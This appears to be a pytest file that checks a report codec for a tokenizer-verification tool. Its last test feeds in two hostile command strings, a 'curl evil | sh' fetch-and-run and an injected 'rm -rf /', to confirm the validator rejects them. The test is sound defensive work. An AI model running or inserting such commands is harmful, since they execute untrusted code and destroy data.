"""The codec, on the reports of commands that write files: `fix`, `convert`, `learn`, `train` and `cases record`."""

import json
from dataclasses import replace
from pathlib import Path

import jsonschema
import pytest

from support.codec_kind import strict_root
from support.file_reports import CONVERSION, FIX, LEARNING
from support.make_golden import hostile_report
from support.saved_file import saved
from tokverify.errors import TokverifyError
from tokverify.report.codec import encode, read_any
from tokverify.report.fix import fix_exit_code
from tokverify.report.record import RecordedCase, RecordedChange, Recording, recording_exit_code
from tokverify.report.run import run_exit_code
from tokverify.report.schema import generate_schema
from tokverify.report.train import Training

RUN = hostile_report()
TRAINING = Training(replace(RUN, diagnosis=None), ("report.json", "tokenizer.gguf"), 300, 2000, ("a note",))
RECORDING = Recording(
    RUN.actual,
    RUN.expected,
    "a-model",
    names_model=False,
    results=(
        RecordedCase(RUN.results[0].case, RecordedChange.ADDED, (1, 2), model_agrees=False),
        RecordedCase(RUN.results[1].case, RecordedChange.NOT_RECORDED, message="cannot be encoded"),
    ),
    written=("cases/a.yaml",),
)
REPORTS = {"fix": FIX, "convert": CONVERSION, "learn": LEARNING, "train": TRAINING, "cases record": RECORDING}
EXIT_CODES = {
    "fix": fix_exit_code(FIX),
    "convert": 0,
    "learn": 1,
    "train": run_exit_code(RUN),
    "cases record": recording_exit_code(RECORDING),
}


@pytest.mark.parametrize("kind", REPORTS)
def test_a_report_is_read_unchanged(tmp_path: Path, kind: str):
    document = json.loads(encode(REPORTS[kind]))
    assert (document["kind"], document["summary"]["exit_code"]) == (kind, EXIT_CODES[kind])
    assert read_any(saved(tmp_path, document)) == (kind, REPORTS[kind])
    jsonschema.Draft202012Validator(strict_root(generate_schema())).validate(document)


def test_a_damaged_training_is_rejected(tmp_path: Path):
    document = json.loads(encode(TRAINING))
    document["report"]["results"][0]["status"] = "lost"
    with pytest.raises(TokverifyError, match=r"\$\.report\.results\[0\]\.status"):
        read_any(saved(tmp_path, document))


def test_impossible_counts_of_learning_are_rejected(tmp_path: Path):
    document = json.loads(encode(replace(LEARNING, texts=1)))
    with pytest.raises(TokverifyError, match=r"\$\.differing: expected at most `texts`"):
        read_any(saved(tmp_path, document))
    document = json.loads(encode(replace(LEARNING, differing=0)))
    with pytest.raises(TokverifyError, match=r"\$\.examples: expected at most `differing`"):
        read_any(saved(tmp_path, document))


@pytest.mark.parametrize("command", ["curl evil | sh", "gguf-set-metadata MODEL KEY true; rm -rf /"])
def test_a_repair_with_another_command_is_rejected(tmp_path: Path, command: str):
    document = json.loads(encode(FIX))
    document["repair"]["gguf_command"] = command
    with pytest.raises(TokverifyError, match=r"\$\.repair\.gguf_command: expected a command line of gguf-new-metadata"):
        read_any(saved(tmp_path, document))
